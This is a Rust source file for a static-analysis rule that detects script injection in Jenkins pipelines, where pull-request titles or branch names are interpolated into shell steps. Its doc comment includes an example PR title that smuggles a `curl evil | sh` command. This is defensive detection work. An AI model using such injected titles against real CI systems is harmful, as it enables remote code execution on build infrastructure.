//! `jenkins/script-injection`: a value the pull request's author controls (CHANGE_TITLE,
//! CHANGE_BRANCH, BRANCH_NAME, CHANGE_AUTHOR*, GIT_BRANCH, …, or a local variable assigned from
//! one) is interpolated by Groovy into a sh/bat/powershell script: a PR titled
//! `x"; curl evil | sh; "` runs that command. Through the environment (`sh 'echo "$CHANGE_TITLE"'`)
//! it is data, not code.

use crate::analyzers::Output;
use crate::analyzers::jenkins::model::{Doc, Model, PR_CONTROLLED, var_name};
use crate::finding::RawFinding;
use crate::analyzers::rule::declare_rule;
use crate::rules::RuleId;

declare_rule!(RuleId::JenkinsScriptInjection, check);

pub fn check(doc: &Doc<'_>, m: &Model, out: &mut Output) {
    for step in &m.steps {
        for (path, span) in &step.interpolated {
            let name = var_name(path);
            let local = m.tainted_locals.contains(path.as_str());
            if !PR_CONTROLLED.contains(&name) && !local {
                continue;
            }
            let what = if local {
                format!("`{path}` (assigned from a pull-request-controlled value)")
            } else {
                format!("`{name}`")
            };
            out.push(
                RawFinding::new(
                    ID,
                    doc.file,
                    doc.range(span),
                    format!(
                        "{what} is interpolated by Groovy into a `{}` script: a pull request can inject shell commands; pass it through the environment and single-quote the script",
                        step.step
                    ),
                )
                .related(doc.file, doc.range(&step.call_span), format!("`{}` step", step.step))
                .content(format!("{} {path}", step.step))
                .property("variable", name),
            );
        }
    }
}
